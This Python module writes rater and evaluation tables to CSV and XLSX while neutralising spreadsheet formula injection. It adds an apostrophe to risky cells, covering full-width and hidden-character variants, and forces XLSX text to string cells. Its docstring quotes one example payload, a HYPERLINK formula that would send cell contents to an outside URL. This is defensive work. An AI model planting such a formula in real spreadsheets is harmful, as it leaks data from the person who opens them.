"""Tables a person opens in a spreadsheet (rater packets, evaluation examples, quarantines): report and model text
never becomes a live formula. A cell starting with = + - @ tab or CR runs as a formula in Excel and LibreOffice
(`=HYPERLINK("http://…?d="&B3)` would send other cases' findings off the rater's machine; `- Heart size normal.`
shows as #NAME?). Spreadsheets skip leading spaces, line breaks, a BOM and zero-width characters and read the
full-width ＝ ＋ － ＠ as = + - @, so a cell whose first other character is one of these counts too.
- CSV: such a cell gets a leading apostrophe (OWASP's mitigation), the one change to the text; every text cell is
  quoted (Python's csv writer leaves a lone CR unquoted, which splits the row for every reader).
- XLSX: every text cell is written as a string cell, so the text shows exactly as written.
"""

import csv
import re
from pathlib import Path

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_START = re.compile("[\t\r]|[\\s\ufeff\u200b-\u200d\u2060]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


def neutralised(value):
    return "'" + value if isinstance(value, str) and FORMULA_START.match(value) else value


def restored(value):
    """The text write_csv was given: its leading apostrophe removed where it added one."""
    return value[1:] if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value[1:]) else value


def read_csv(path: Path | str) -> pd.DataFrame:
    """A table written by write_csv, read back as text, exactly as it was before writing."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return frame.map(restored).rename(columns=restored)


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    frame.map(neutralised).rename(columns=neutralised).to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC)
    return path


def write_xlsx(frame: pd.DataFrame, path: Path, sheet_name: str) -> Path:
    """One sheet; text cells forced to strings (openpyxl would take a leading '=' for a formula). Control
    characters XLSX cannot hold become U+FFFD."""
    book = Workbook()
    sheet = book.active
    sheet.title = sheet_name
    for row_number, row in enumerate([list(frame.columns), *frame.itertuples(index=False)], start=1):
        for column, value in enumerate(row, start=1):
            if isinstance(value, str):
                cell = sheet.cell(row_number, column, ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
                cell.data_type = "s"
            else:
                sheet.cell(row_number, column, None if pd.isna(value) else value)
    book.save(path)
    return path
